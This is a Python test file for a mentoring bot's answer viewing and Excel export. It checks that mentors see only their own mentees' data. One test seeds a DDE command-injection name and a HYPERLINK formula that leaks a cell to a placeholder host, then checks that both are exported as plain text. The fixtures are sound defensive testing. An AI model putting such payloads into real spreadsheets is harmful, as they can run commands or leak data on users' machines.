"""A mentee's answers and /ekspor: mentors see only their mentees, a koordinator their cohort."""
from __future__ import annotations

import io

from openpyxl import load_workbook

from flows import progress
from flows.callbacks import ANSWERS
from reports.export import export_xlsx
from store.models import Person
from tests.flows.test_walk import answer_all_pi1, start_pi1


async def as_viewer(db, content, viewer, call):
    async with db.session() as s:
        return await call(s, content, await s.get(Person, viewer.id))


async def submitted_pi1(chat) -> None:
    await start_pi1(chat)
    await answer_all_pi1(chat)
    await chat.press("Kirim")


def target(data: str) -> int | None:
    """The person an "r:" button is about, as its handler decodes it; None for malformed data."""
    value = ANSWERS.unpack(data)
    return value.person_id if value else None


async def test_mentee_answers_for_their_pp(db, people, chat_for, flow_content):
    await submitted_pi1(chat_for(people["cgp"]))
    replies = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: progress.mentee_answers(s, c, v, target(f"r:m:{people['cgp'].id}")))
    text = "\n".join(r.text for r in replies)
    assert text.startswith("Jawaban Citra:") and "✅ PI 1" in text and "Apa yang Anda pelajari?\n➡️ Saya belajar tentang visi." in text
    assert [a.file_id for r in replies for a in r.attachments] == ["P1"]


async def test_pp_can_never_see_another_pps_mentee(db, people, chat_for, flow_content):
    await submitted_pi1(chat_for(people["other"]))
    for data in (f"r:m:{people['other'].id}", f"r:m:{people['pp2'].id}", "r:m:abc", "r:x:1", f"r:m:{people['koord'].id}"):
        replies = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: progress.mentee_answers(s, c, v, target(data)))
        assert [r.text for r in replies] == ["Maaf, Bapak/Ibu tidak dapat melihat data peserta ini."], data
    replies = await as_viewer(db, flow_content, people["cgp"], lambda s, c, v: progress.mentee_answers(s, c, v, target(f"r:m:{people['other'].id}")))
    assert "tidak dapat melihat" in replies[0].text
    replies = await as_viewer(db, flow_content, people["pp2"], lambda s, c, v: progress.mentee_answers(s, c, v, target(f"r:m:{people['other'].id}")))
    assert "Saya belajar tentang visi." in replies[0].text


async def test_koordinator_sees_the_answers_of_their_cohort(db, people, chat_for, flow_content):
    await submitted_pi1(chat_for(people["cgp"]))
    replies = await as_viewer(db, flow_content, people["koord"], lambda s, c, v: progress.mentee_answers(s, c, v, target(f"r:m:{people['cgp'].id}")))
    assert "Saya belajar tentang visi." in replies[0].text


async def test_export_has_only_visible_answers(db, people, chat_for, flow_content, clock):
    await submitted_pi1(chat_for(people["cgp"]))
    await submitted_pi1(chat_for(people["other"]))
    name, data = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: export_xlsx(s, c, v, clock))
    assert name == "jawaban-2025-03-10.xlsx"
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames[0] == "PI 1"
    rows = list(book["PI 1"].iter_rows(values_only=True))
    assert rows[0][:10] == ("Nama", "Peran", "Sekolah", "Kabupaten/Kota", "Angkatan", "Pendamping (PP/FSP)",
                            "Bergabung dengan bot", "Keaktifan", "Status", "Dikirim")
    assert rows[0][10] == "Apa yang Anda pelajari?"
    assert [r[0] for r in rows[1:]] == ["Cahyo", "Citra"]  # Cahyo has not started: a row all the same
    assert rows[1][8:10] == ("belum mulai", None)
    assert rows[2][5] == "Pak Pandu" and rows[2][7:9] == ("aktif", "terkirim") and rows[2][9].hour == 10  # 03:00 UTC in WIB
    assert rows[2][10:16] == ("Saya belajar tentang visi.", "Senang", "2 (Cukup)", "Visi, Diferensiasi", 32, rows[2][15])
    assert rows[2][15].date().isoformat() == "2025-03-12"

    _, data = await as_viewer(db, flow_content, people["koord"], lambda s, c, v: export_xlsx(s, c, v, clock))
    rows = list(load_workbook(io.BytesIO(data))["PI 1"].iter_rows(values_only=True))
    assert [(r[0], r[8]) for r in rows[1:]] == [("Cahyo", "belum mulai"), ("Citra", "terkirim"), ("Dewi", "terkirim")]

    _, data = await as_viewer(db, flow_content, people["cgp2"], lambda s, c, v: export_xlsx(s, c, v, clock))
    rows = list(load_workbook(io.BytesIO(data))["PI 1"].iter_rows(values_only=True))
    assert [(r[0], r[8]) for r in rows[1:]] == [("Cahyo", "belum mulai")]  # only their own row


async def test_people_who_left_show_as_keluar_and_keep_their_answers(db, people, chat_for, flow_content, clock):
    await submitted_pi1(chat_for(people["cgp"]))
    await start_pi1(chat_for(people["cgp2"]))
    async with db.session() as s:
        (await s.get(Person, people["cgp"].id)).left_at = clock.now()
    replies = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: progress.mentee_answers(s, c, v, target(f"r:m:{people['cgp'].id}")))
    assert "Saya belajar tentang visi." in replies[0].text

    _, data = await as_viewer(db, flow_content, people["koord"], lambda s, c, v: export_xlsx(s, c, v, clock))
    rows = list(load_workbook(io.BytesIO(data))["PI 1"].iter_rows(values_only=True))
    assert [(r[0], r[7]) for r in rows[1:]] == [("Cahyo", "aktif"), ("Citra", "keluar"), ("Dewi", "aktif")]


async def test_export_keeps_answers_and_names_as_text_never_formulas(db, people, chat_for, flow_content, clock):
    leak = '=HYPERLINK("http://contoh.invalid/?leak="&A2,"Klik")'
    async with db.session() as s:
        (await s.get(Person, people["cgp"].id)).name = "=cmd|' /C calc'!A0"
    chat = chat_for(people["cgp"])
    await start_pi1(chat)
    await chat.send(leak)
    await chat.press("Senang")
    await chat.press("Cukup")
    await chat.press("Visi")
    await chat.press("Selesai")
    await chat.send("32")
    _, data = await as_viewer(db, flow_content, people["pp"], lambda s, c, v: export_xlsx(s, c, v, clock))
    sheet = load_workbook(io.BytesIO(data))["PI 1"]
    cells = {cell.value: cell for cell in sheet[2]}
    name, answer, number = sheet["A2"], cells[leak], cells[32]
    assert (name.value, name.data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (answer.value, answer.data_type, answer.quotePrefix) == (leak, "s", True)
    assert (number.value, number.data_type) == (32, "n")  # numbers stay numbers
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
